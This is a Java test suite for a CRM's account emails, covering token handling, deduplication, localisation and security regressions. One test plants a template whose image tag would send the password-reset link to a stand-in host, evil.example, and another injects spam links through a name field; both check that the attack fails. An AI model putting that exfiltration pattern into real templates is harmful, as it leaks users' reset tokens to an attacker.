package io.leaderforge.crm.account;

import static io.leaderforge.crm.Given.CRM;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.JsonProcessingException;
import io.leaderforge.contracts.event.core.AccountMailRequested;
import io.leaderforge.crm.CrmTest;
import io.leaderforge.crm.Given;
import io.leaderforge.crm.Mailbox;
import io.leaderforge.crm.Mailbox.Received;
import io.leaderforge.kit.Ids;
import io.leaderforge.kit.json.Json;
import io.leaderforge.testkit.EventSource;
import io.leaderforge.testkit.Replicas;
import io.leaderforge.testkit.Stack;
import io.leaderforge.testkit.TestTenant;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jose4j.jwe.JsonWebEncryption;
import org.jose4j.keys.AesKey;
import org.jose4j.lang.JoseException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@CrmTest
class AccountMailTest {

    private final TestTenant tenant = Replicas.tenant();
    private final String token = "tok_" + UUID.randomUUID().toString().replace("-", "") + "-AB";
    private final String to = "account-" + UUID.randomUUID() + "@example.com";

    @ParameterizedTest
    @CsvSource({
        "sign_up, true, Finish signing up at",
        "account_exists, false, You already have an account at",
        "email_verification, true, Confirm your email address for",
        "password_reset, true, Choose another password for",
        "password_changed, false, was changed",
        "email_change, true, Confirm your new email address for",
        "email_changed, false, Your email address at",
        "account_linked, false, was linked",
        "erasure_planned, false, will be erased"
    })
    void eachLetterArrivesWithItsLinkAndTheTokenIsInTheMailAlone(String letter, boolean secret, String subject) {
        Given.emailConfig(tenant, "Führung & Söhne", "active", Map.of());
        send(letter, secret ? token : "", "Zoë <b>Bold</b> [secret]");
        Received mail = Mailbox.await1(to);
        assertTrue(mail.subject().contains(subject), mail.subject());
        assertTrue(mail.subject().contains("Führung & Söhne"), mail.subject());
        assertTrue(mail.text().contains(link(secret ? token : "")), mail.text());
        assertTrue(mail.text().contains("Zoë <b>Bold</b> (secret)"), mail.text());
        assertTrue(mail.html().contains("Zoë &lt;b&gt;Bold&lt;/b&gt; (secret)"), mail.html());
        assertFalse(mail.text().contains("{{"), mail.text());
        assertEquals(secret, mail.html().contains(token), mail.html());
        assertEquals(secret || letter.equals("erasure_planned"), mail.text().contains("22 November 2033"), mail.text());
        Given.awaitStatus(tenant, to, "sent");
        tenant.asOwner()
                .get(CRM + "/messages")
                .then()
                .body("items[0].to_address", equalTo(to))
                .body("items[0].body", secret ? containsString("[secret]") : not(containsString("[secret]")))
                .body(not(containsString(token)));
        assertNull(Given.one("select sealed from crm.messages where to_address = ?", to));
        assertEquals(
                "0",
                Given.one(
                        "select count(*)::text from (select to_jsonb(m)::text t from crm.messages m union all"
                                + " select payload::text from crm.outbox) x where t like ?",
                        "%" + token + "%"));
    }

    @Test
    void aLetterThatIsNoneAndAnAddressThatIsNoneAreNotSentNorDeadLetters() {
        UUID none = send("none", "", "");
        UUID unknown = send("of_a_later_release", "", "");
        UUID odd = send("password_reset", token, "X", "\"quoted local\"@[127.0.0.1]");
        send("password_changed", "", "Last");
        Mailbox.await1(to);
        assertEquals(1, Mailbox.to(to).size());
        assertEquals("1", Given.one("select count(*)::text from crm.messages where tenant_id = ?", tenant.id()));
        for (UUID event : List.of(none, unknown, odd)) {
            assertNull(Given.one("select reason from crm.dead_letters where event_id = ?", event));
        }
    }

    @Test
    void theSameRequestTwiceIsOneMail() {
        UUID event = Ids.next();
        AccountMailRequested fact = fact("password_reset", token, "Once", to);
        EventSource.get().fact(fact, fact.id(), event);
        EventSource.get().fact(fact, fact.id(), event);
        Mailbox.await1(to);
        send("password_changed", "", "Later");
        org.awaitility.Awaitility.await().until(() -> Mailbox.to(to).size() == 2);
        assertEquals(
                1,
                Mailbox.to(to).stream()
                        .filter(mail -> mail.subject().startsWith("Choose another"))
                        .count());
    }

    @Test
    void finding4_aTemplateOfTheTenantNoLongerDecidesWhereTheTokenGoes() {
        // Written before letters had words of their own; the API takes none of these categories any more.
        UUID template = Given.template(
                tenant, "Newsletter", "<p>Hi</p><img src=\"https://evil.example/p.gif?u={{link}}\">{{link}}");
        Given.change("update crm.message_templates set category = 'account.password_reset' where id = ?", template);
        send("password_reset", token, "Zoë");
        Received mail = Mailbox.await1(to);
        assertTrue(mail.subject().startsWith("Choose another password"), mail.subject());
        assertFalse(mail.source().contains("evil.example"), mail.html());
        tenant.asOwner()
                .body(Map.of(
                        "name", "N", "type", "email", "category", "account.sign_up", "subject", "S", "content", "C"))
                .post(CRM + "/message-templates")
                .then()
                .statusCode(422)
                .body("errors.pointer", contains("/category"));
    }

    @Test
    void finding10_aNameThatAStrangerTypedIsNoMessage() {
        send(
                "sign_up",
                token,
                "Win 1000 EUR at http://evil.example/claim or evil.example, write to me@evil.example "
                        + "x".repeat(500));
        Received mail = Mailbox.await1(to);
        assertTrue(mail.text().startsWith("Hello Win 1000 EUR at or write to xxx"), mail.text());
        assertFalse(mail.source().contains("evil"), mail.source());
        assertTrue(mail.text().lines().findFirst().orElse("").length() < 70, mail.text());
    }

    /** The person's own choice goes before that of the request, which goes before the tenant's. */
    @Test
    void console1_5_E2_aLetterIsInTheLanguageAndZoneOfItsReader() {
        tenant.settings(Map.of("locale", "es", "timezone", "Asia/Kathmandu"));
        send("password_reset", token, "Zoë");
        Received spanish = Mailbox.await1(to);
        assertEquals("Elija otra contraseña para Tenant " + tenant.key(), spanish.subject());
        assertTrue(spanish.text().startsWith("Hola, Zoë:"), spanish.text());
        assertTrue(spanish.text().contains("22 de noviembre de 2033, 15:45 (Asia/Kathmandu)"), spanish.text());

        UUID reader = tenant.user("Zoë", "member");
        String german = tenant.state(reader).email();
        send(letter("password_reset", german, Map.of("accepts", "ar")));
        Received arabic = Mailbox.await1(german);
        assertTrue(arabic.subject().startsWith("اختر كلمة مرور جديدة"), arabic.subject());
        assertTrue(arabic.html().contains("<html lang=\"ar\" dir=\"rtl\">"), arabic.html());

        tenant.reads(reader, "de-AT", "Europe/Vienna");
        String former = "former-" + to;
        send(letter("email_changed", former, Map.of("accepts", "ar", "reader", reader.toString())));
        Received changed = Mailbox.await1(former);
        assertTrue(changed.subject().startsWith("Ihre E-Mail-Adresse bei"), changed.subject());
        assertTrue(changed.html().contains("<html lang=\"de\" dir=\"ltr\">"), changed.html());
    }

    private void send(Map<String, String> letter) {
        AccountMailRequested fact = new AccountMailRequested(
                Ids.next(), tenant.id(), Instant.parse("2033-11-22T10:00:00Z"), sealed(letter));
        EventSource.get().fact(fact, fact.id());
    }

    private Map<String, String> letter(String letter, String address, Map<String, String> more) {
        Map<String, String> all = new java.util.HashMap<>(
                Map.of("letter", letter, "email", address, "full_name", "Zoë", "token", token, "link", link(token)));
        all.putAll(more);
        return all;
    }

    private UUID send(String letter, String secret, String name) {
        return send(letter, secret, name, to);
    }

    private UUID send(String letter, String secret, String name, String address) {
        AccountMailRequested fact = fact(letter, secret, name, address);
        return EventSource.get().fact(fact, fact.id());
    }

    private AccountMailRequested fact(String letter, String secret, String name, String address) {
        return new AccountMailRequested(
                Ids.next(),
                tenant.id(),
                Instant.parse("2033-11-22T10:00:00Z"),
                sealed(Map.of(
                        "letter", letter, "email", address, "full_name", name, "token", secret, "link", link(secret))));
    }

    private String link(String secret) {
        String page = "http://" + tenant.key() + ".localhost:8080/page";
        return secret.isEmpty() ? page : page + "?token=" + secret;
    }

    private static String sealed(Map<String, String> secret) {
        try {
            JsonWebEncryption jwe = new JsonWebEncryption();
            jwe.setAlgorithmHeaderValue("dir");
            jwe.setEncryptionMethodHeaderParameter("A256GCM");
            jwe.setKey(new AesKey(Base64.getUrlDecoder().decode(Stack.current().sealingKey())));
            jwe.setPayload(Json.mapper().writeValueAsString(secret));
            return jwe.getCompactSerialization();
        } catch (JoseException | JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }
}
